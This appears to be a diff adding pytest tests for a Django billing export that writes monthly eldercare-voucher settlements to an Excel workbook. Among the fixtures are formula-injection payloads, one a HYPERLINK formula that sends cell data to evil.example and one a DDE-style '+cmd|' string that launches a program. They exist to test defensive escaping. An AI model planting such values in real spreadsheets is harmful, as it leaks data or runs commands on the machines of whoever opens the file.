@@ -1,0 +1,269 @@
+"""The settlement workbook: what finance opens in Excel for approval."""
+
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.utils import translation
+from openpyxl import load_workbook
+
+from billing import exports
+from billing.errors import BillingError
+from billing.exports import export_settlement, safe_text
+from billing.models import Statement
+from billing.services import settle
+from config.months import SHANGHAI
+from tests.billing.conftest import MONTH, City
+from vouchers.models import Redemption
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("王秀英", "王秀英"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_safe_text_neutralises_text_that_looks_like_a_formula(text, shown):
+    assert safe_text(text) == shown
+
+
+def test_safe_text_leaves_numbers_and_dates_alone():
+    for value in (Decimal("-1.50"), -3, None, dt.datetime(2026, 10, 1, 8, 0)):
+        assert safe_text(value) == value
+
+
+@pytest.fixture
+def settled_city(db):
+    """October served and settled, with a senior, a provider and a staff member named like formulas."""
+    city = City(senior_names={"paid": EVIL}, provider_names={"prov-b": "+cmd|' /C calc'!A0"})
+    city.staff["prov-b"].display_name = "@SUM(1+1)"
+    city.staff["prov-b"].save()
+    city.serve(tier="subsidized", quantity="2")
+    city.serve(tier="low_fee", quantity="1.5")
+    city.serve(tier="low_fee", provider="prov-b", item="meal", quantity="3")
+    city.serve(tier="paid", provider="prov-b", quantity="1", day=7)
+    city.void(city.serve(tier="paid", item="meal", quantity="1", day=8))
+    settle(month=MONTH)
+    return city
+
+
+def open_workbook(path_or_buffer):
+    return load_workbook(path_or_buffer)
+
+
+def rows_of(sheet):
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+def test_the_workbook_has_a_summary_and_a_detail_sheet_with_chinese_headers(settled_city, tmp_path):
+    # when October is exported
+    out = tmp_path / "2026-10.xlsx"
+    summary = export_settlement(month=MONTH, out=str(out))
+
+    # then it opens with 汇总 and 明细, Chinese headers and the header row frozen
+    workbook = open_workbook(out)
+    assert workbook.sheetnames == ["汇总", "明细"]
+    summary_sheet, detail_sheet = workbook["汇总"], workbook["明细"]
+    assert rows_of(summary_sheet)[0] == [
+        "服务商编码",
+        "服务商名称",
+        "服务类别",
+        "服务项目",
+        "核销笔数",
+        "服务数量",
+        "服务金额",
+        "政府补贴",
+        "个人自付",
+    ]
+    assert rows_of(detail_sheet)[0][:5] == ["核销编号", "服务商编码", "服务商名称", "服务时间", "老人姓名"]
+    assert summary_sheet.freeze_panes == "A2"
+    assert detail_sheet.freeze_panes == "A2"
+    assert summary_sheet.column_dimensions["B"].width >= 20
+    assert (summary.statements, summary.redemptions) == (3, 4)
+
+
+def test_the_summary_totals_match_the_statements_to_the_fen(settled_city, tmp_path):
+    # given a settled month exported
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out)
+    rows = rows_of(open_workbook(out)["汇总"])
+
+    # then the totals row equals the statements in the database, to the fen
+    totals = rows[-1]
+    statements = Statement.objects.filter(period__month=MONTH)
+    assert totals[0] == "合计"
+    assert totals[4] == sum(s.redemption_count for s in statements) == 4
+    assert [Decimal(str(v)).quantize(Decimal("0.01")) for v in totals[6:9]] == [
+        sum((getattr(s, f).amount for s in statements), Decimal("0.00"))
+        for f in ("total_amount", "government_total", "senior_total")
+    ]
+    # and the lines add up to the totals row
+    lines = rows[1:-1]
+    for column in (6, 7, 8):
+        assert sum(Decimal(str(row[column])) for row in lines) == Decimal(str(totals[column]))
+    # and the zero statement of the provider that did no work is there
+    zero_row = next(r for r in lines if r[0] == "prov-c")
+    assert (zero_row[4], zero_row[6:9]) == (0, [0, 0, 0])
+
+
+def test_summary_lines_show_tier_and_service_names(settled_city, tmp_path):
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out)
+    lines = rows_of(open_workbook(out)["汇总"])[1:-1]
+    by_key = {(r[0], r[2], r[3]): r for r in lines}
+    # ¥40 × 1.5 h for the low-fee senior: 60.00 = 42.00 government + 18.00 co-pay
+    low_fee_cleaning = by_key[("prov-a", "低偿", "助洁")]
+    assert low_fee_cleaning[4:] == [1, 1.5, 60, 42, 18]
+
+
+def test_money_cells_are_numbers_with_two_decimals(settled_city, tmp_path):
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out)
+    workbook = open_workbook(out)
+    summary_row = next(workbook["汇总"].iter_rows(min_row=2, max_row=2))
+    for cell in summary_row[6:9]:
+        assert cell.data_type == "n"
+        assert cell.number_format == "#,##0.00"
+    detail_row = next(workbook["明细"].iter_rows(min_row=2, max_row=2))
+    for cell in detail_row[9:13]:
+        assert cell.data_type == "n"
+        assert cell.number_format == "#,##0.00"
+    # served at: a Shanghai wall-clock date-time, not text
+    assert isinstance(detail_row[3].value, dt.datetime)
+
+
+def test_the_detail_lists_every_paid_redemption_once_in_shanghai_time(settled_city, tmp_path):
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out)
+    detail = rows_of(open_workbook(out)["明细"])[1:]
+
+    paid = Redemption.objects.filter(service_month=MONTH, void__isnull=True)
+    assert sorted(row[0] for row in detail) == sorted(paid.values_list("id", flat=True))
+    voided = Redemption.objects.get(void__isnull=False)
+    assert voided.pk not in {row[0] for row in detail}
+    # the scans were recorded at 10:00 Shanghai time
+    assert {row[3].hour for row in detail} == {10}
+    assert sum(Decimal(str(row[10])) for row in detail) == Decimal("225.00")
+
+
+def test_names_that_look_like_formulas_are_written_as_text(settled_city, tmp_path):
+    # given a senior, a provider and a staff member whose names start with = + @
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out)
+    workbook = open_workbook(out)
+
+    # then no cell in either sheet is a formula, and those names are shown as text
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    detail = rows_of(workbook["明细"])[1:]
+    senior_names = {row[4] for row in detail}
+    assert any(name.startswith("'=") for name in senior_names)  # the masked =HYPERLINK… name
+    assert {row[2] for row in detail if row[1] == "prov-b"} == {"'+cmd|' /C calc'!A0"}
+    assert {row[13] for row in detail if row[1] == "prov-b"} == {"'@SUM(1+1)"}
+
+
+def test_one_provider_can_be_exported_alone(settled_city):
+    # when only prov-b is exported, into memory (as the download does)
+    buffer = io.BytesIO()
+    summary = export_settlement(month=MONTH, out=buffer, provider_code="prov-b")
+
+    # then both sheets hold only prov-b, and the totals are its statement's
+    workbook = open_workbook(io.BytesIO(buffer.getvalue()))
+    summary_rows = rows_of(workbook["汇总"])[1:-1]
+    detail_rows = rows_of(workbook["明细"])[1:]
+    assert {row[0] for row in summary_rows} == {"prov-b"}
+    assert {row[1] for row in detail_rows} == {"prov-b"}
+    statement = Statement.objects.get(period__month=MONTH, provider__code="prov-b")
+    assert summary.total_amount == statement.total_amount
+    assert (summary.statements, summary.redemptions) == (1, 2)
+
+
+def test_an_unsettled_month_is_not_exported(db, tmp_path):
+    with pytest.raises(BillingError) as refused:
+        export_settlement(month=MONTH, out=tmp_path / "x.xlsx")
+    assert refused.value.code == "period_not_settled"
+    assert not (tmp_path / "x.xlsx").exists()
+
+
+def test_an_unknown_provider_is_refused(settled_city, tmp_path):
+    with pytest.raises(BillingError) as refused:
+        export_settlement(month=MONTH, out=tmp_path / "x.xlsx", provider_code="nobody")
+    assert refused.value.code == "not_found"
+
+
+def test_the_detail_continues_on_a_new_sheet_past_the_row_limit(settled_city, tmp_path, monkeypatch):
+    # given a (lowered) limit of three rows a sheet, header included
+    monkeypatch.setattr(exports, "MAX_ROWS_PER_SHEET", 3)
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out)
+
+    # then the four redemptions run over 明细 and 明细(2), each sheet with its header
+    workbook = open_workbook(out)
+    assert [name for name in workbook.sheetnames if name.startswith("明细")] == ["明细", "明细(2)"]
+    first, second = rows_of(workbook["明细"]), rows_of(workbook["明细(2)"])
+    assert first[0] == second[0]
+    assert len(first) - 1 + len(second) - 1 == 4
+
+
+def test_export_command_writes_the_workbook(settled_city, tmp_path, capsys):
+    out = tmp_path / "oct.xlsx"
+    call_command("export_settlement", "--period", "2026-10", "--out", str(out), "--provider", "prov-a")
+    printed = capsys.readouterr().out
+    assert "2 redemptions" in printed
+    assert "total 140.00 CNY" in printed
+    assert {row[1] for row in rows_of(open_workbook(out)["明细"])[1:]} == {"prov-a"}
+
+
+@pytest.mark.parametrize(
+    ("arguments", "message"),
+    [
+        (["--period", "2026-13"], "YYYY-MM"),
+        (["--period", "2026-09"], "has not been settled"),
+        (["--period", "2026-10", "--provider", "nobody"], "nobody"),
+    ],
+)
+def test_export_command_refuses_with_a_clear_message(settled_city, tmp_path, arguments, message):
+    with translation.override("en"), pytest.raises(CommandError, match=message):
+        call_command("export_settlement", *arguments, "--out", str(tmp_path / "x.xlsx"))
+
+
+def test_settle_command_prints_a_summary(db, capsys):
+    # given October served
+    city = City()
+    city.serve(tier="low_fee", quantity="1.5")
+
+    # when finance settles it from the command line
+    with translation.override("en"):
+        call_command("settle", "--period", "2026-10")
+
+    # then it says what was settled
+    printed = capsys.readouterr().out
+    assert "3 provider statements" in printed
+    assert "1 redemptions" in printed
+    assert "total 60.00 CNY (government 42.00, seniors 18.00)" in printed
+
+    # and a second run is refused with the reason
+    with translation.override("en"), pytest.raises(CommandError, match="already been settled"):
+        call_command("settle", "--period", "2026-10")
+
+
+def test_settle_command_refuses_a_month_that_has_not_ended(db):
+    today = dt.datetime.now(SHANGHAI)
+    with translation.override("en"), pytest.raises(CommandError, match="has not ended"):
+        call_command("settle", "--period", f"{today:%Y-%m}")
+    with pytest.raises(CommandError, match="YYYY-MM"):
+        call_command("settle", "--period", "October")
